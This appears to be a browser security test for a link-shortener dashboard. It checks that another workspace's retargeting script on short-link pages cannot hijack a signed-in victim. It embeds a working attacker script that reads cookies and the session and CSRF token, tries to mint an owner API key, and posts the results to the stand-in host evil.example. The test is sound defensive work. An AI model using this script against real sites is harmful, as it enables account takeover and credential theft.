import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import type { Page } from 'playwright-core';
import { UA } from '../helpers/smart-links';
import { signIn, skipBrowser, startDashboard, warnIfNoChromium, type Dashboard } from '../dashboard/harness';

/**
 * A Team workspace's retargeting script is someone else's code running on our pages. With the site
 * and the short domain on ONE host (the local default, and the worst case), a signed-in person of
 * another workspace follows the attacker's short link in a real Chromium. The script tries what a
 * takeover needs: the session (fetch and a same-origin frame), the CSRF token, an owner API key
 * for the victim's workspace, the workspace itself and document.cookie. It reports to its own
 * server (stood in for by the browser's router). It must run, get nothing, and the visit must
 * still reach the link's target.
 */
warnIfNoChromium('retargeting/isolation-browser');

const EVIL = 'https://evil.example';
const TARGET = 'https://target.example/landing';

/** The attacker's script: every step reported as it happens; the victim's workspace id is known to the attacker. */
const attackScript = (victimWorkspaceId: string) => `(async () => {
  const report = (what, value) => fetch('${EVIL}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ what, value }) }).catch(() => {});
  const attempt = async (what, run) => {
    try { await report(what, await run()); } catch (error) { await report(what, 'failed: ' + error); }
  };
  await report('ran', location.href);
  await attempt('document.cookie', () => document.cookie);
  let session = null;
  await attempt('session', async () => {
    const res = await fetch('/api/session', { credentials: 'include' });
    const text = await res.text();
    try { session = JSON.parse(text); } catch {}
    return res.status + ' ' + text;
  });
  await attempt('framed session', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = '/api/session';
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch (error) { resolve('failed: ' + error); } };
    setTimeout(() => resolve('failed: no load'), 2000);
    document.body.appendChild(frame);
  }));
  const workspaceId = (session && session.workspaces && session.workspaces[0] && session.workspaces[0].id) || '${victimWorkspaceId}';
  const csrf = (session && session.csrf_token) || '';
  await attempt('mint key', async () => {
    const res = await fetch('/api/workspaces/' + workspaceId + '/api-keys', {
      method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json', 'x-csrf-token': csrf },
      body: JSON.stringify({ name: 'analytics', role: 'owner' }),
    });
    return res.status + ' ' + (await res.text());
  });
  await attempt('blind mint key', async () => {
    // no-cors: the answer is unreadable, but a request the server accepted would still mint a key
    await fetch('/api/workspaces/' + workspaceId + '/api-keys', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ name: 'blind' }) });
    return 'sent';
  });
  await attempt('workspace', async () => {
    const res = await fetch('/api/workspaces/' + workspaceId, { credentials: 'include' });
    return res.status + ' ' + (await res.text());
  });
  await report('done', true);
})();`;

let d: Dashboard;
let victim: { userId: string; workspaceId: string; key: string; email: string };
let attacker: { workspaceId: string; key: string };

beforeAll(async () => {
  if (skipBrowser) return;
  // the site and the default short domain share linkhop.test
  d = await startDashboard({ env: { DEFAULT_DOMAIN: 'linkhop.test' } });
  expect(d.t.config.defaultDomain).toBe(d.t.config.siteHost);
  const email = 'victim@example.com';
  victim = { ...(await d.t.bootstrap({ email, plan: 'pro' })), email };
  attacker = await d.t.bootstrap({ plan: 'team' });
  const scripts = await d.t.api('PATCH', `/workspaces/${attacker.workspaceId}`, { key: attacker.key, body: { retargeting_scripts: [`${EVIL}/pixel.js`] } });
  expect(scripts.status).toBe(200);
}, 60_000);
afterAll(async () => {
  await d?.close();
});

async function attackerLink(body: Record<string, unknown> = {}): Promise<string> {
  const res = await d.t.api('POST', `/workspaces/${attacker.workspaceId}/links`, { key: attacker.key, body: { target: TARGET, ...body } });
  expect(res.status).toBe(201);
  expect(res.body.short_url).toStartWith('http://linkhop.test/');
  return res.body.short_url;
}

/**
 * Routes the attacker's server and the target in the victim's browser. The target answers only once
 * the script reported `done` (or after 8 s), so every attempt finishes before the page is left.
 */
async function routeOutside(page: Page) {
  const reports: Record<string, unknown> = {};
  let done: () => void;
  const finished = new Promise<void>((resolve) => (done = resolve));
  await page.context().route(`${EVIL}/**`, async (route) => {
    const url = route.request().url();
    if (url.endsWith('/pixel.js')) return route.fulfill({ contentType: 'text/javascript', body: attackScript(victim.workspaceId) });
    const { what, value } = JSON.parse(route.request().postData() ?? '{}');
    reports[what] = value;
    if (what === 'done') done();
    return route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } });
  });
  await page.context().route('https://target.example/**', async (route) => {
    await Promise.race([finished, Bun.sleep(8000)]);
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Landing</title><h1>Landed</h1>' });
  });
  return { reports, finished };
}

const keysOfVictim = async () => (await d.t.api('GET', `/workspaces/${victim.workspaceId}/api-keys`, { key: victim.key })).body.api_keys as unknown[];

describe.skipIf(skipBrowser)('a retargeting script on a short-link page, site and short domain on one host', () => {
  const pages: { what: string; userAgent: string; link: Record<string, unknown> }[] = [
    { what: 'retargeting page', userAgent: UA.desktop, link: {} },
    { what: 'interstitial', userAgent: UA.desktop, link: { interstitial: { title: 'One moment', delay: 1, show_once: false } } },
    {
      what: 'app-detection page',
      userAgent: UA.iphone,
      // no app installed: the page's timer goes on to the store URL
      link: { deep_link: { ios_app_url: 'myapp://open', ios_store_url: TARGET, interstitial: true } },
    },
  ];
  for (const { what, userAgent, link } of pages) {
    test(`${what}: the script runs, gets no session, no CSRF token, no key, no workspace; the visit reaches the target`, async () => {
      const shortUrl = await attackerLink(link);
      const { context, page } = await d.newPage();
      await signIn(d, page, victim.email);
      // the victim's session is live in this browser: the dashboard's own page reads it
      const own = await page.evaluate(async () => (await fetch('/api/session')).json());
      expect(own.csrf_token).toMatch(/^[0-9a-f]{64}$/);
      const keysBefore = (await keysOfVictim()).length;

      const visitor = await context.newPage();
      await visitor.setExtraHTTPHeaders({ 'user-agent': userAgent });
      const { reports, finished } = await routeOutside(visitor);
      await visitor.goto(shortUrl, { waitUntil: 'commit' });
      await Promise.race([finished, Bun.sleep(10_000)]);
      await visitor.waitForURL(TARGET, { timeout: 10_000 });

      // the script ran in the page and finished every attempt
      expect(reports.ran).toBe(shortUrl);
      expect(reports.done).toBe(true);
      const got = (key: string) => String(reports[key]);
      expect(got('session')).not.toContain('csrf_token');
      expect(got('framed session')).not.toContain('csrf_token');
      expect(got('session')).not.toContain(victim.email);
      expect(got('framed session')).not.toContain(victim.email);
      expect(got('mint key')).not.toMatch(/^201|lh_/);
      expect(got('workspace')).not.toMatch(/^200/);
      expect(got('workspace')).not.toContain(victim.workspaceId);
      expect(got('document.cookie')).not.toContain('lh_session');
      // the database has no new key of the victim's workspace
      expect((await keysOfVictim()).length).toBe(keysBefore);
      expect(visitor.url()).toBe(TARGET);
      await context.close();
    }, 60_000);
  }
});
